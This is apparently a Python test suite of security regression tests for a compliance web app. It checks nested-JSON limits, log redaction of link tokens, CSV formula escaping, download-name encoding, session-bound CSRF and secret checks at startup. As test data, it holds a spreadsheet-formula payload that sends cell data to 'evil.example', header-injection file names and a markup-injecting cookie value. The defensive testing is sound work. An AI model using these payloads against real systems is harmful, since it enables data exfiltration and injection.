"""Issue 17, the web half: each finding sent as the attacker sent it, through the real
app (or a real server, or real processes), asserting what a person or a log sees.

Nested JSON is a 400 before parsing; every link route answers the officer with an HTML
page; tokens never reach a log however the path is encoded; the outbox never shows a
live link; CSV cells cannot be formulas; download names survive any character; a CSRF
token works only with the session it was made for; workers die with the server; a
server beyond loopback refuses to start on generated secrets.
"""

from __future__ import annotations

import ast
import contextlib
import csv
import io
import logging
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote, unquote

import httpx
import pytest

from compliance import PROJECT_ROOT
from compliance.tables import Participant, Recipient
from compliance.web.common.downloads import attachment
from tests.support.cli import BIN, run_cli, settings_env
from tests.support.demo import court_report, officer_browser, post_json, secure_link
from tests.support.live import serve
from tests.support.logs import LogRecords
from tests.support.staff import PASSWORD, csrf_token, make_world, sign_in

# --- 1. nested JSON, link answers --------------------------------------------------------


@pytest.mark.parametrize("path", ["/api/session", "/api/recipients"])
async def test_deeply_nested_json_is_a_400_before_parsing(client, path: str) -> None:
    """A thousand ``[`` made msgspec recurse until RecursionError: a 500 with a
    traceback in the log, before sign-in. Now anything nested past 32 levels is a 400
    naming the limit, and nothing is logged as an error."""
    world = await make_world()
    if path != "/api/session":
        await sign_in(client, world.clinician_a)
    seen = LogRecords()
    logging.getLogger().addHandler(seen)
    try:
        headers = {"x-csrftoken": await csrf_token(client), "content-type": "application/json"}
        for body in ("[" * 1000, '{"a":' * 1000, '[{"x": ' * 40 + "1" + "}]" * 40):
            answer = await client.post(path, content=body, headers=headers)
            assert answer.status_code == 400, answer.text
            assert "nested deeper than 32 levels" in answer.json()["detail"]
        # Brackets inside strings are text, not nesting; 32 levels are still read.
        text = await client.post(path, content='{"email": "' + "[" * 500 + '"}', headers=headers)
        assert text.status_code in (400, 401, 422) and "nested" not in text.text
        ok = await client.post(path, content="[" * 32 + "]" * 32, headers=headers)
        assert ok.status_code in (400, 422) and "nested" not in ok.text
    finally:
        logging.getLogger().removeHandler(seen)
    errors = [r for r in seen.records if r.levelno >= logging.ERROR]
    assert not errors, [r.getMessage() for r in errors]
    assert not [r for r in seen.records if r.exc_info], "a traceback was logged"


async def test_every_link_route_answers_the_officer_with_a_page(client, demo) -> None:
    """The PDF address of a link with an access code, opened before the code, raised
    "application/pdf media type is not supported" (a redirect inside a PDF handler).
    Now it is the code prompt; a withdrawn link's PDF is the withdrawn page; a missing
    link's PDF the not-found page: each labelled text/html, never application/pdf."""
    report = await court_report(client, demo)
    coded = await secure_link(client, demo, access_code=True)
    path = httpx.URL(coded["url"]).path
    pdf = f"{path}/reports/{report['id']}/pdf"
    async with officer_browser(client) as officer:
        prompt = await officer.get(pdf)
        assert prompt.status_code == 200, prompt.text
        assert prompt.headers["content-type"].startswith("text/html")
        assert "Access code" in prompt.text and "Marcus" not in prompt.text
        assert not prompt.content.startswith(b"%PDF")
        missing = await officer.get(f"/l/{'x' * 43}/reports/{report['id']}/pdf")
        assert missing.status_code == 404
        assert missing.headers["content-type"].startswith("text/html")
        unlocked = await officer.post(
            f"{path}/code",
            data={"code": coded["access_code"], "_csrf_token": officer.cookies["csrftoken"]},
        )
        assert unlocked.status_code == 303
        got = await officer.get(pdf)
        assert got.status_code == 200 and got.content.startswith(b"%PDF-")
        assert got.headers["content-type"] == "application/pdf"
        revoked = await post_json(client, f"/api/links/{coded['link']['id']}/revoke", {})
        assert revoked.status_code == 200
        gone = await officer.get(pdf)
        assert gone.status_code == 410
        assert gone.headers["content-type"].startswith("text/html")
        assert "withdrawn" in gone.text


# --- 3. token redaction --------------------------------------------------------------------


def _variants(token: str) -> list[str]:
    """The same link written as a browser, a proxy or an attacker might."""
    first = f"%{ord(token[0]):02X}"
    return [
        f"/l/{first}{token[1:]}",  # the first character percent-encoded
        f"/l/{first.lower()}{token[1:]}",  # lower-case hex
        f"/l/{''.join(f'%{ord(c):02x}' for c in token)}",  # every character
        f"/l%2F{token}",  # the slash encoded
        f"/l%2f{token}/reports/1/pdf",
        f"/%6C/{token}",  # the l itself
        f"/L/{token}",  # mixed case (a 404, but still the token)
        f"/l/{token}?x=1",
    ]


def test_a_token_never_reaches_the_server_log_however_encoded(
    database_url: str, tmp_path: Path
) -> None:
    """A real server (uvicorn's access log, Litestar's error log) sent each variant of a
    live link; its whole output never holds the token, in any encoding."""
    from compliance.core.settings import load_settings

    env = settings_env(database_url, tmp_path)
    token = _make_live_link(env)
    with serve(env, tmp_path / "server.log") as server:
        for variant in [*_variants(token), f"/set-password/{token}"]:
            httpx.get(server.url + variant, timeout=10)
        opened = httpx.get(server.url + _variants(token)[0], timeout=10)
        log = server.stop()
    assert opened.status_code == 200 and "Marcus" in opened.text  # the variant is live
    assert '"GET /l/[redacted]' in log  # the access log is on, and redacted
    for shape in {token, quote(token), token[1:], token[8:]}:
        assert shape not in log, shape
    assert load_settings(env).secret_key not in log


def _make_live_link(env: dict[str, str]) -> str:
    """A link made through the app in a child process (this test has no event loop)."""
    script = (
        "import asyncio, httpx\n"
        "from compliance.core.settings import load_settings\n"
        "from tests.support.app import app_client\n"
        "from tests.support.staff import signed_in_demo, csrf_token\n"
        "async def main():\n"
        "    async with app_client(load_settings()) as c:\n"
        "        demo = await signed_in_demo(c, 'staff@example.org')\n"
        "        r = await c.post(f\"/api/participants/{demo['people']['RB-1001']}/links\",\n"
        "            json={'recipient_id': demo['recipients']['Dana Whitfield']},\n"
        "            headers={'x-csrftoken': await csrf_token(c)})\n"
        "        print(r.json()['url'].rsplit('/', 1)[1])\n"
        "asyncio.run(main())\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        env={**os.environ, **env},
        cwd=PROJECT_ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.strip().splitlines()[-1]


@pytest.mark.parametrize("logger", ["uvicorn.access", "uvicorn.error", "litestar", "compliance"])
def test_every_logger_redacts_every_variant(logger: str, client_free_app: None) -> None:
    """Any logger, any argument shape, the exception text too."""
    token = "Ax_hz" + "Q" * 38
    seen = LogRecords()
    target = logging.getLogger(logger)
    target.addHandler(seen)
    old_level = target.level
    target.setLevel(logging.INFO)
    try:
        for variant in _variants(token):
            target.info('%s - "%s %s HTTP/%s" %d', "1.2.3.4:5", "GET", variant, "1.1", 404)
            target.info("path=%(path)s", {"path": variant})
            target.info(f"opened {variant}")
            try:
                raise ValueError(f"no route for {variant}")
            except ValueError:
                target.exception("failed")
    finally:
        target.removeHandler(seen)
        target.setLevel(old_level)
    formatter = logging.Formatter()
    text = "\n".join(formatter.format(r) for r in seen.records)
    assert len(seen.records) == 4 * len(_variants(token))
    assert "[redacted]" in text
    assert token not in text and token[1:] not in text and "%41x_hz" not in text.lower()


@pytest.fixture
def client_free_app(settings) -> None:  # type: ignore[no-untyped-def]
    """The app's logging set up as the server has it (create_app installs redaction)."""
    from compliance.app import create_app

    create_app(settings)


# --- 4. the outbox -----------------------------------------------------------------------


async def test_the_outbox_never_shows_a_live_link(client, demo) -> None:
    """The link's address is shown once, when made; the outbox (page and API, every
    program user, every view) shows the message with the address hidden."""
    report = await court_report(client, demo)
    sent = await post_json(client, f"/api/reports/{report['id']}/send", {"access_code": False})
    assert sent.status_code == 201, sent.text
    url = sent.json()["link"]["url"]
    token = url.rsplit("/", 1)[1]
    program = demo["program"]["id"]
    for _ in range(2):
        page = await client.get(f"/programs/{program}/outbox")
        api = await client.get(f"/api/programs/{program}/outbox")
        assert page.status_code == 200 and api.status_code == 200
        for shown in (page.text, api.text):
            assert token not in shown and url not in shown
        assert "/l/[hidden]" in api.json()[0]["body"]
        assert "/l/[hidden]" in page.text
    async with officer_browser(client) as officer:  # the link itself still works
        assert (await officer.get(httpx.URL(url).path)).status_code == 200


# --- 5. CSV cells and file names ---------------------------------------------------------


async def test_csv_cells_cannot_be_formulas(client, demo) -> None:
    """A recipient named ``=HYPERLINK(...)`` reached the disclosures CSV as a formula.
    Each cell starting with = + - @, a tab or a carriage return is now text (OWASP)."""
    await secure_link(client, demo)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await Recipient.update({Recipient.name: evil}).where(
        Recipient.id == demo["recipients"]["Dana Whitfield"]
    )
    for name in (evil, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        await Recipient.update({Recipient.name: name, Recipient.organisation: ""}).where(
            Recipient.id == demo["recipients"]["Dana Whitfield"]
        )
        answer = await client.get(f"/participants/{demo['people']['RB-1001']}/disclosures.csv")
        assert answer.status_code == 200
        rows = list(csv.reader(io.StringIO(answer.text)))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + name in cells, (name, rows)
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rows


DISPOSITION = re.compile(
    r"""attachment; filename="([ -!#-\[\]-~]*)"; filename\*=UTF-8''([A-Za-z0-9%._~-]+)"""
)


def _download_name(header: str) -> str:
    """The name a browser saves under, as RFC 6266 says: the header must be exactly an
    attachment with a plain quoted fallback and ``filename*``, which wins."""
    parsed = DISPOSITION.fullmatch(header)
    assert parsed, header
    return unquote(parsed.group(2), errors="strict")


@pytest.mark.parametrize(
    "name",
    ['R"B; filename=evil.exe', "RB\\1001", "Zoë-1001", "RB\r\nSet-Cookie: x=1", "RB 1/2"],
)
def test_file_names_are_encoded_as_rfc_6266_says(name: str) -> None:
    """One encoder: an ASCII fallback with nothing that ends the quoted string, and the
    exact name, UTF-8 and percent-encoded, in ``filename*``."""
    header = attachment(f"disclosures-{name}.csv")
    assert _download_name(header) == f"disclosures-{name}.csv".replace("\r\n", "")


async def test_a_client_id_with_a_quote_downloads_under_its_own_name(client, demo) -> None:
    pid = demo["people"]["RB-1001"]
    await Participant.update({Participant.client_id: 'RB"1001;x=y'}).where(Participant.id == pid)
    answer = await client.get(f"/participants/{pid}/disclosures.csv")
    assert answer.status_code == 200
    assert _download_name(answer.headers["content-disposition"]) == 'disclosures-RB"1001;x=y.csv'


def test_every_download_name_goes_through_the_one_encoder() -> None:
    """No module builds a Content-Disposition by hand: a new download cannot skip it."""
    hand_made = []
    for path in sorted((PROJECT_ROOT / "compliance").rglob("*.py")):
        if path.name == "downloads.py" or "migrations" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                if "filename=" in node.value or "attachment;" in node.value:
                    hand_made.append(f"{path.relative_to(PROJECT_ROOT)}:{node.lineno}")
    assert not hand_made, hand_made


# --- 6. CSRF bound to the session --------------------------------------------------------


async def test_another_users_matching_cookie_and_header_are_refused(client) -> None:
    """Clinician B's own CSRF cookie and header, a valid pair, sent with clinician A's
    session: refused, and nothing stored. A's own pair works."""
    world = await make_world()
    await sign_in(client, world.clinician_a)
    session_a = client.cookies["compliance_session"]
    async with officer_browser(client) as other:
        await sign_in(other, world.clinician_b)
        pair_b = other.cookies["csrftoken"]
        assert (await other.get("/api/session")).json()["email"] == world.clinician_b
    body = {
        "program_id": world.program_a,
        "client_id": "X-1",
        "first_name": "Ann",
        "last_name": "Lee",
        "admitted_on": "2026-01-05",
    }
    async with officer_browser(client) as forged:
        forged.cookies.set("compliance_session", session_a)
        forged.cookies.set("csrftoken", pair_b)
        refused = await forged.post("/api/participants", json=body, headers={"x-csrftoken": pair_b})
        assert refused.status_code == 403, refused.text
        assert refused.json()["detail"] == "CSRF token verification failed"
        # A page form likewise.
        page = await forged.post("/logout", data={"_csrf_token": pair_b})
        assert page.status_code == 403
    assert await Participant.count() == 0
    assert (await client.get("/api/session")).json()["email"] == world.clinician_a
    mine = await client.post("/api/participants", json=body)
    assert mine.status_code == 201, mine.text


async def test_sign_in_gives_a_token_for_the_new_session(client) -> None:
    """The token from before sign-in belongs to no session: after sign-in the answer
    sets a new one (the cookie jar has it), and the old one is refused."""
    world = await make_world()
    before = await csrf_token(client)
    signed = await client.post(
        "/api/session",
        json={"email": world.clinician_a, "password": PASSWORD},
        headers={"x-csrftoken": before},
    )
    assert signed.status_code == 200
    after = client.cookies["csrftoken"]
    assert after != before
    stale = await client.delete("/api/session", headers={"x-csrftoken": before})
    assert stale.status_code == 403
    out = await client.delete("/api/session", headers={"x-csrftoken": after})
    assert out.status_code == 204
    # Signed out: the answer gives an anonymous token again, and the sign-in form works.
    again = client.cookies["csrftoken"]
    assert again != after
    page = await client.post(
        "/login", data={"email": world.clinician_a, "password": PASSWORD, "_csrf_token": again}
    )
    assert page.status_code == 303


async def test_a_forged_csrf_cookie_is_never_reflected_into_a_page(client) -> None:
    """Litestar put the cookie's raw value into the form's hidden field (unescaped):
    a planted cookie became markup. An invalid cookie is replaced, never echoed."""
    client.cookies.set("csrftoken", '"><b id=planted>')
    page = await client.get("/login")
    assert page.status_code == 200
    assert "planted" not in page.text
    fresh = page.cookies["csrftoken"]  # replaced in the same answer
    assert fresh != '"><b id=planted>' and f'value="{fresh}"' in page.text


# --- 7. workers die with the server ------------------------------------------------------

_PARENT = """
import multiprocessing.resource_tracker as rt, sys, time
from compliance.core import workers
pool = workers.Pool(None, size=2)
pool.warm()
busy = pool._pool().submit(time.sleep, 300)  # one worker in the middle of a job
children = [p.pid for p in pool._executor._processes.values()]
print(" ".join(map(str, children + [rt._resource_tracker._pid])), flush=True)
time.sleep(600)
"""


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    stat = Path(f"/proc/{pid}/stat")
    return not (stat.exists() and stat.read_text().split(")")[-1].split()[0] == "Z")


def test_workers_and_the_resource_tracker_exit_when_the_server_is_killed() -> None:
    """kill -9 of the server left its spawned workers (one busy, one idle) and the
    multiprocessing resource tracker running for good. Now they are all gone within
    seconds."""
    parent = subprocess.Popen(
        [sys.executable, "-c", _PARENT],
        cwd=PROJECT_ROOT,
        stdout=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        assert parent.stdout is not None
        line = parent.stdout.readline()
        pids = [int(p) for p in line.split()]
        assert len(pids) == 3 and all(_alive(p) for p in pids), line
        parent.send_signal(signal.SIGKILL)
        parent.wait()
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline and any(_alive(p) for p in pids):
            time.sleep(0.2)
        left = [p for p in pids if _alive(p)]
        assert not left, f"still running after the parent died: {left}"
    finally:
        if parent.poll() is None:
            parent.kill()
        with contextlib.suppress(ProcessLookupError):
            os.killpg(parent.pid, signal.SIGKILL)


# --- 8. a public server needs real secrets -----------------------------------------------


@pytest.mark.parametrize(
    ("extra", "missing"),
    [
        ({}, "SECRET_KEY"),
        ({"SECRET_KEY": "s" * 48}, "SIGNING_P12"),
    ],
)
def test_a_server_beyond_loopback_needs_its_own_secrets(
    tmp_path: Path, extra: dict[str, str], missing: str
) -> None:
    env = {
        "VAR_DIR": str(tmp_path / "var"),
        "REPORTS_DIR": str(tmp_path / "reports"),
        "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}",
        "HOST": "0.0.0.0",
        "BASE_URL": "https://iop.example.org",
        "SECRET_KEY": "",
        "SIGNING_P12": "",
        **extra,
    }
    done = run_cli("run", env=env, timeout=60)
    assert done.returncode != 0
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"compliance: error: {missing}: "), lines
    assert "0.0.0.0" in lines[0]
    assert not (tmp_path / "var" / "signing").exists()  # no development certificate made


def test_run_with_a_host_flag_beyond_loopback_is_checked_too(tmp_path: Path) -> None:
    env = {
        "VAR_DIR": str(tmp_path / "var"),
        "REPORTS_DIR": str(tmp_path / "reports"),
        "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}",
        "SECRET_KEY": "",
        "SIGNING_P12": "",
        "BASE_URL": "https://iop.example.org",
    }
    done = subprocess.run(
        [str(BIN / "compliance"), "run", "--host", "10.0.0.5"],
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode != 0
    assert done.stderr.strip().startswith("compliance: error: SECRET_KEY: "), done.stderr
